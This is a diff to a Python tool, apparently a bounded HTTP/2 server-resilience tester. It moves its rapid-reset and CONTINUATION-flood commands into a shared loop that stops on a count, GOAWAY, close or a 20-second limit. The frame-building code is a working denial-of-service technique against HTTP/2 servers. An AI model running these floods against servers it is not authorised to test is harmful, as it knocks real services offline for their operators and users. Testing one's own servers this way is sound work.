@@ -21,6 +21,7 @@ bounded in count and time. Each command prints one JSON object on stdout.
       N POST streams whose B-byte bodies are all in flight before any of them ends.
 """
 import argparse
+import itertools
 import json
 import socket
 import ssl
@@ -206,21 +207,19 @@ def new_state():
     return {"closed": False, "goaway": None, "resets": 0, "buffer": b"", "headers": [], "data": b""}
 
 
-def cmd_h2_rapid_reset(args):
+def flood(args, opening, send_round):
+    """Sends `opening`, then rounds from send_round() (bytes and how many they count), until
+    args.count are sent, the server sends GOAWAY or closes, or 20 s pass; prints what it did."""
     sock = h2_start(args)
     state = new_state()
     sent = 0
     started = time.time()
-    stream = 1
     try:
+        sock.sendall(opening)
         while sent < args.count and state["goaway"] is None and not state["closed"] and time.time() - started < 20:
-            batch = b""
-            for _ in range(50):
-                batch += frame(HEADERS, END_HEADERS, stream, request_block())
-                batch += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))  # CANCEL
-                stream += 2
-                sent += 1
-            sock.sendall(batch)
+            data, count = send_round()
+            sock.sendall(data)
+            sent += count
             read_frames(sock, state, 0)
     except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
         state["closed"] = True
@@ -228,21 +227,22 @@ def cmd_h2_rapid_reset(args):
     print(json.dumps({"sent": sent, "goaway": state["goaway"], "closed": state["closed"]}))
 
 
+def cmd_h2_rapid_reset(args):
+    streams = iter(range(1, 2**31, 2))
+
+    def opened_and_cancelled():
+        batch = b""
+        for stream in itertools.islice(streams, 50):
+            batch += frame(HEADERS, END_HEADERS, stream, request_block())
+            batch += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))  # CANCEL
+        return batch, 50
+
+    flood(args, b"", opened_and_cancelled)
+
+
 def cmd_h2_continuation_flood(args):
-    sock = h2_start(args)
-    state = new_state()
-    sent = 0
-    try:
-        sock.sendall(frame(HEADERS, 0, 1, request_block()))
-        while sent < args.count and not state["closed"] and state["goaway"] is None:
-            sock.sendall(frame(CONTINUATION, 0, 1, b""))
-            sent += 1
-            if sent % 20 == 0:
-                read_frames(sock, state, 0)
-    except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
-        state["closed"] = True
-    read_frames(sock, state, 2)
-    print(json.dumps({"sent": sent, "goaway": state["goaway"], "closed": state["closed"]}))
+    # A header block that never ends: HEADERS without END_HEADERS, then empty CONTINUATIONs.
+    flood(args, frame(HEADERS, 0, 1, request_block()), lambda: (frame(CONTINUATION, 0, 1, b"") * 20, 20))
 
 
 def cmd_h2_big_headers(args):
